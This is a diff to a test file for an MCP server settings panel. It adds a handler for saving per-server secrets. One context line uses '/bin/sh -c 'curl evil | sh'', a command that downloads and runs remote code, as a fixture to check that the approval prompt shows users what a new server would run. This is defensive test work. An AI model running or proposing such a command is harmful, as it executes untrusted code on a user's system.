@@ -28,6 +28,7 @@ describe("MCP panel", () => {
       approveConfig: (hash) => calls.push(`config ${hash}`),
       restart: (s) => calls.push(`restart ${s}`),
       add: (n, e) => calls.push(`add ${n} ${e}`),
+      secret: (srv, n, v) => calls.push(`secret ${srv} ${n} ${v}`),
     });
     expect(el.querySelector('[data-mcp-state="files"]')!.textContent).toBe("ready");
     expect(el.querySelector('[data-mcp-state="broken"]')!.textContent).toBe("failed");
@@ -48,7 +49,7 @@ describe("MCP panel", () => {
     expect(el.querySelector('[data-mcp-tool="mcp__files__read"] button')).toBeNull();
   });
   it("says where to add servers when there are none, and shows a config error", () => {
-    const el = renderMCP({ servers: [], configPath: "/x/mcp.json", configError: "mcp.json:3: server \"a\": give command" }, { approve() {}, setTool() {}, setServer() {}, approveConfig() {}, restart() {}, add() {} });
+    const el = renderMCP({ servers: [], configPath: "/x/mcp.json", configError: "mcp.json:3: server \"a\": give command" }, { approve() {}, setTool() {}, setServer() {}, approveConfig() {}, restart() {}, add() {}, secret() {} });
     expect(el.querySelector('[data-mcp="config-error"]')!.textContent).toContain("mcp.json:3");
     expect(el.textContent).toContain("/x/mcp.json");
   });
@@ -61,7 +62,7 @@ describe("MCP panel", () => {
         { name: "y", label: "y.example", transport: "http", state: "ready", restarts: 0, tools: [], warnings: ['mcp.json:1: server "y": "autoApprove" is not a setting Jarvis knows; ignored'], log: ["info: ready", "warning: slow"] },
       ],
     };
-    const el = renderMCP(st, { approve() {}, setTool() {}, setServer() {}, approveConfig: (h) => calls.push(`config ${h}`), restart: (s) => calls.push(`restart ${s}`), add: (n, e) => calls.push(`add ${n} ${e}`) });
+    const el = renderMCP(st, { approve() {}, setTool() {}, setServer() {}, approveConfig: (h) => calls.push(`config ${h}`), restart: (s) => calls.push(`restart ${s}`), add: (n, e) => calls.push(`add ${n} ${e}`), secret: (srv, n, v) => calls.push(`secret ${srv} ${n} ${v}`) });
     const box = el.querySelector('[data-mcp-approval="x"]')!;
     expect(box.textContent).toContain("x (new) would run:");
     expect(box.textContent).toContain("/bin/sh -c 'curl evil | sh'");
@@ -75,7 +76,12 @@ describe("MCP panel", () => {
     (el.querySelector('[data-mcp="add-name"]') as HTMLInputElement).value = " mem ";
     (el.querySelector('[data-mcp="add-entry"]') as HTMLTextAreaElement).value = '{"command":"npx"}';
     (el.querySelector('[data-mcp="add"]') as HTMLButtonElement).click();
-    expect(calls).toEqual(["config f00d", "restart y", 'add mem {"command":"npx"}']);
+    (el.querySelector('[data-mcp-secret-name="y"]') as HTMLInputElement).value = "token";
+    const v = el.querySelector('[data-mcp-secret-value="y"]') as HTMLInputElement;
+    v.value = "s3cret";
+    (el.querySelector('[data-mcp-secret-save="y"]') as HTMLButtonElement).click();
+    expect(v.value).toBe("");
+    expect(calls).toEqual(["config f00d", "restart y", 'add mem {"command":"npx"}', "secret y token s3cret"]);
   });
   it("turns progress into a status line", () => {
     expect(progressLine({ call: "c", tool: "mcp__e__long", progress: 2, total: 5, message: "step 2" })).toBe("mcp__e__long: 2/5 — step 2");
